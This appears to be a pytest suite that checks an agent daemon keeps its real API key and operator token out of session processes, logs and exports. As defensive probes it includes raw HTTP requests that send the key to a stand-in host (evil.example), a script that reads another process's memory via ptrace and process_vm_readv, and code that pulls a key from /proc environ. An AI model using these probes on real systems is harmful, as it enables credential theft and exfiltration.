"""While a session runs, neither the real key nor the daemon's token is anywhere in its processes, and what the agent
does get is worth nothing elsewhere."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.sessions.acceptance import other_user, stand_in
from tests.sessions.acceptance.key_hunt import SESSION_TOKEN, Hunt, family_of, pattern_of
from tests.sessions.acceptance.other_user import public_folder
from tests.sessions.acceptance.sizes import IS_FULL
from tests.sessions.acceptance.stand_in import CALL_MODEL, REAL_KEY, serving_models
from tests.sessions.daemon import session_host
from tests.support.daemon import Daemon
from tests.support.model_provider import ModelProvider
from tests.support.sandbox import needs_sandbox
from tests.support.sessions import Session, wait_for

AS_ROOT = pytest.mark.skipif(os.getuid() != 0, reason="only root can read the memory of all processes")
pytestmark = AS_ROOT
USERS = ["root", other_user.USER] if IS_FULL else ["root"]
ISOLATIONS = ["simple", "insulated", pytest.param("sandbox", marks=needs_sandbox)]
REAL, OPERATOR, TOKEN, VIRTUAL = "the real key", "the daemon's token", "the session's token", "the virtual key"


@dataclass
class Place:
    daemon: Daemon
    provider: ModelProvider
    work: Path

    def hunt(self, virtual: str) -> Hunt:
        """The session's token is only stored as a digest, so that it is looked for by its form."""
        values = {REAL: REAL_KEY, OPERATOR: self.daemon.token(), VIRTUAL: virtual}
        return Hunt({**{name: pattern_of(value) for name, value in values.items()}, TOKEN: SESSION_TOKEN})


@pytest.fixture(scope="module", params=USERS)
def place(request: pytest.FixtureRequest) -> Iterator[Place]:
    with public_folder() as folder, serving_models() as provider:
        variables = {"EXECUTOR_MODEL_OPENAI_URL": f"{provider.origin}/v1", "EXECUTOR_SESSION_PROMPTS_PER_MINUTE": "999"}
        if request.param == "root":
            (folder / "daemon").mkdir()
            (folder / "work").mkdir()
            daemon = Daemon(folder / "daemon", **variables)
        else:
            daemon = other_user.make_daemon(folder, **variables)
            other_user.hand_over(folder)
        daemon.start()
        stand_in.install(daemon.data_dir, "" if request.param == "root" else "/usr/bin/python3")
        if request.param != "root":
            other_user.hand_over(daemon.data_dir / "agents")
        stand_in.set_key(daemon)
        yield Place(daemon, provider, folder / "work")
        daemon.stop()


def start(place: Place, isolation: str) -> tuple[Session, Any]:
    """A session whose agent has used its model and has processes of its own."""
    session = Session(place.daemon, place.work, agent=stand_in.NAME, isolation=isolation, model=stand_in.MODEL)
    task = session.send(
        {"run": CALL_MODEL}, {"run": "setsid sleep 600 >/dev/null 2>&1 & true"}, {"say": "ready"}, {"hang": True}
    )
    wait_for(lambda: "ready" in session.text() or session.task(task)["status"] == "failed", "the agent")
    assert "alpha" in session.messages("tool_call")[0]["data"]["content"][0]["text"], session.task(task)
    return session, task


def virtual_key(pid: int) -> str:
    """As an attacker on this machine would see it, in the environment of the agent."""
    for process in family_of(pid):
        for entry in Path(f"/proc/{process}/environ").read_bytes().split(b"\0"):
            name, _, value = entry.partition(b"=")
            if name == b"OPENCODE_CONFIG_CONTENT":
                return str(json.loads(value)["provider"]["executor"]["options"]["apiKey"])
    raise AssertionError("no process has a virtual key")


def test_the_hunt_finds_what_was_planted(tmp_path: Path) -> None:
    """In each place that it looks at. Without this, finding nothing would prove nothing."""
    (tmp_path / "file").write_text("xx planted-in-a-file yy")
    code = """
import os, sys, time
memory = os.environ["SEED"][::-1] + "-in-memory"
open_file = os.memfd_create("x"); os.write(open_file, b"planted-in-open-file")
print("ready", flush=True); time.sleep(600)
"""
    environ = {"PLANTED": "planted-in-environment", "SEED": "detnalp"}
    child = subprocess.Popen(
        [sys.executable, "-I", "-c", code, "planted-in-arguments"], env=environ, stdout=subprocess.PIPE
    )
    assert child.stdout is not None
    try:
        assert child.stdout.readline() == b"ready\n"
        places = ("environment", "arguments", "open-file", "memory", "a-file")
        hunt = Hunt({place: pattern_of(f"planted-in-{place}") for place in places})
        hunt.search_process(child.pid, "it")
        hunt.search_files(tmp_path)
    finally:
        child.kill()
        child.wait()
        child.stdout.close()
    expected = {"it: environ", "it: cmdline", "it: open files", "it: memory", f"file {tmp_path / 'file'}"}
    assert expected <= {place for _, place in hunt.found}
    assert {name for name, _ in hunt.found} == set(places)


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_no_process_of_a_session_has_the_real_key_or_the_daemons_token(
    place: Place, isolation: str, record_property: Any
) -> None:
    session, task = start(place, isolation)
    executor = session.view()["pid"]
    virtual = virtual_key(executor)
    hunt = place.hunt(virtual)
    family = family_of(executor)
    assert len(family) >= 4, "the executor process, a supervisor, the agent and its child"
    for pid, name in family.items():
        hunt.search_process(pid, "executor process" if pid == executor else f"{name} {pid}")
    assert hunt.places_of(REAL) == hunt.places_of(OPERATOR) == set()
    # The controls: its own token is in the executor process, the virtual key in the agent. Both must be found.
    assert hunt.places_of(TOKEN) == {"executor process: memory"}
    assert any("memory" in found for found in hunt.places_of(VIRTUAL))
    assert any("environ" in found for found in hunt.places_of(VIRTUAL))
    record_property("searched", f"{hunt.processes} processes, {hunt.searched / 1e6:.0f} MB, 0 hits")
    session.daemon.request("DELETE", f"{session.path}/tasks/{task['id']}")
    session.daemon.post(f"{session.path}/stop")
    check_kept(place, session, virtual)


def check_kept(place: Place, session: Session, virtual: str) -> None:
    """Transcript, exports, events, the database, logs, and all files that a session leaves."""
    hunt = place.hunt(virtual)
    daemon = place.daemon
    hunt.search_text("messages", json.dumps(session.messages()))
    for path in (f"{session.path}/export", f"{session.path}/export?format=markdown", "/v1/audit/export"):
        request = urllib.request.Request(f"{daemon.url}{path}", headers={"Authorization": f"Bearer {daemon.token()}"})
        with urllib.request.urlopen(request, timeout=120) as answer:
            hunt.search_text(path, answer.read().decode())
    hunt.search_files(daemon.data_dir, daemon.state_dir, place.work)
    hunt.search_text("output", daemon.log.read_text())
    allowed = {(OPERATOR, f"file {daemon.data_dir / 'operator.token'}")}
    assert hunt.found == allowed, "its own file, where the operator finds it, and nowhere else"


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_a_provider_that_echoes_the_key_shows_it_to_no_one(place: Place, isolation: str) -> None:
    place.provider.text = f"your key is {REAL_KEY}, thank you"
    try:
        session = Session(place.daemon, place.work, agent=stand_in.NAME, isolation=isolation, model=stand_in.MODEL)
        session.prompt({"run": CALL_MODEL})
    finally:
        place.provider.text = "alpha"
    [shown] = session.messages("tool_call")
    assert "your key is" in shown["data"]["content"][0]["text"]
    session.daemon.post(f"{session.path}/stop")
    check_kept(place, session, "not-used-here")


ATTACKS = {
    "the attacker's key": "POST /v1/chat/completions HTTP/1.1\r\nAuthorization: Bearer sk-attackers-own",
    "the attacker's key in the address": "POST /v1/chat/completions?key=sk-attackers-own HTTP/1.1",
    "the files API": "POST /v1/files HTTP/1.1\r\nAuthorization: Bearer {key}",
    "another host, absolute": "POST http://evil.example/v1/chat/completions HTTP/1.1\r\nAuthorization: Bearer {key}",
    "a tunnel": "CONNECT evil.example:443 HTTP/1.1\r\nAuthorization: Bearer {key}",
    "a WebSocket": "GET /v1/responses HTTP/1.1\r\nAuthorization: Bearer {key}\r\nConnection: Upgrade\r\n"
    "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: YWJj",
}
REVERSE = """
import json, os, socket, sys
from urllib.parse import urlsplit
place = urlsplit(os.environ["FAKE_AGENT_ORIGIN"])
for name, head in json.load(open("attacks.json")).items():
    with socket.create_connection((place.hostname, place.port), timeout=60) as connection:
        head = head.replace("{key}", os.environ["FAKE_AGENT_KEY"])
        connection.sendall(f"{head}\\r\\nHost: localhost\\r\\nContent-Length: 2\\r\\n\\r\\n{{}}".encode())
        print(connection.recv(4096).split(b" ", 2)[1].decode(), name)
"""


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_from_inside_the_proxy_serves_nothing_but_its_own_model(place: Place, isolation: str) -> None:
    (place.work / "attacks.json").write_text(json.dumps(ATTACKS))
    (place.work / "reverse.py").write_text(REVERSE)
    before = len(place.provider.seen)
    session = Session(place.daemon, place.work, agent=stand_in.NAME, isolation=isolation, model=stand_in.MODEL)
    session.prompt({"run": "python3 reverse.py"})
    output = session.messages("tool_call")[0]["data"]["content"][0]["text"].splitlines()
    assert {line.partition(" ")[2]: line[0] for line in output} == dict.fromkeys(ATTACKS, "4"), output
    assert place.provider.seen[before:] == []
    session.daemon.post(f"{session.path}/stop")


def test_the_virtual_key_is_worth_nothing_elsewhere_and_nothing_after_the_end(place: Place) -> None:
    first, _ = start(place, "insulated")
    stolen = virtual_key(first.view()["pid"])
    uses = {
        "another session's relay": f"{CALL_MODEL} 2>&1 || true".replace('os.environ["FAKE_AGENT_KEY"]', f'"{stolen}"')
    }
    before = len(place.provider.seen)
    other = Session(place.daemon, place.work, agent=stand_in.NAME, isolation="insulated", model=stand_in.MODEL)
    other.prompt({"run": uses["another session's relay"]})
    assert "401" in other.messages("tool_call")[0]["data"]["content"][0]["text"]
    assert place.provider.seen[before:] == []
    for path in ("/v1/sessions", "/v1/chat/completions", "/mcp", "/v1/interactions"):
        assert status_of(f"{place.daemon.url}{path}", stolen) in (401, 403, 404, 405)
    sockets = list(place.daemon.state_dir.rglob("model.sock")) + list(place.daemon.data_dir.rglob("model.sock"))
    for session in (first, other):
        place.daemon.post(f"{session.path}/stop")
    assert not any(path.exists() for path in sockets)
    again = Session(place.daemon, place.work, agent=stand_in.NAME, isolation="insulated", model=stand_in.MODEL)
    again.prompt({"run": uses["another session's relay"]})
    assert "401" in again.messages("tool_call")[0]["data"]["content"][0]["text"]


def status_of(address: str, token: str) -> int:
    request = urllib.request.Request(
        address, b"{}", {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}, method="POST"
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


PRY = """
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
pid, ways = int(sys.argv[1]), []
for name in ("mem", "environ", "fd"):
    try:
        os.listdir(f"/proc/{pid}/fd") if name == "fd" else open(f"/proc/{pid}/{name}", "rb").close()
        ways.append(name)
    except OSError:
        pass
if libc.ptrace(0x4206, pid, 0, 0) == 0:  # seized, not stopped; it ends with this process
    ways.append("ptrace")
buffer = ctypes.create_string_buffer(8)
local, remote = (struct.pack("PN", where, 8) for where in (ctypes.addressof(buffer), 0x400000))
if libc.process_vm_readv(pid, local, 1, remote, 1, 0) >= 0 or ctypes.get_errno() == 14:
    ways.append("process_vm_readv")
print("read by:", ", ".join(ways) or "nothing")
"""


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_an_agent_can_not_read_the_executor_process(place: Place, isolation: str) -> None:
    """Root can, outside a sandbox, which is one of the limitations."""
    (place.work / "pry.py").write_text(PRY)
    session = Session(place.daemon, place.work, agent=stand_in.NAME, isolation=isolation, model=stand_in.MODEL)
    session.prompt("hello")
    session.prompt({"run": f"python3 pry.py {session.view()['pid']}"})
    output = session.messages("tool_call")[0]["data"]["content"][0]["text"]
    if isolation != "sandbox" and "user" not in place.daemon.options:
        assert "mem" in output and "process_vm_readv" in output, "the control: anyone who may do everything reads it"
    else:
        assert output == "read by: nothing\n"
    session.daemon.post(f"{session.path}/stop")


async def test_as_another_user_the_agent_has_no_token_and_reads_none() -> None:
    with public_folder() as folder:
        await look_as_another_user(folder)


async def look_as_another_user(tmp_path: Path) -> None:
    for name in ("work", "home"):
        (tmp_path / name).mkdir()
        os.chown(tmp_path / name, find_uid(), 0)
    (tmp_path / "work" / "pry.py").write_text(PRY)
    isolation = {"unix_user": other_user.USER, "home": str(tmp_path / "home")}
    async with session_host(tmp_path, mode="strict", isolation=isolation) as daemon:
        await daemon.prompt({"run": f"python3 pry.py {daemon.child.pid}"})
        assert daemon.output() == "read by: nothing\n"
        hunt = Hunt({TOKEN: pattern_of(daemon.token)})
        for pid, name in family_of(daemon.child.pid).items():
            hunt.search_process(pid, "executor process" if pid == daemon.child.pid else name)
        assert hunt.processes >= 3 and hunt.places_of(TOKEN) == {"executor process: memory"}


def find_uid() -> int:
    import pwd

    return pwd.getpwnam(other_user.USER).pw_uid
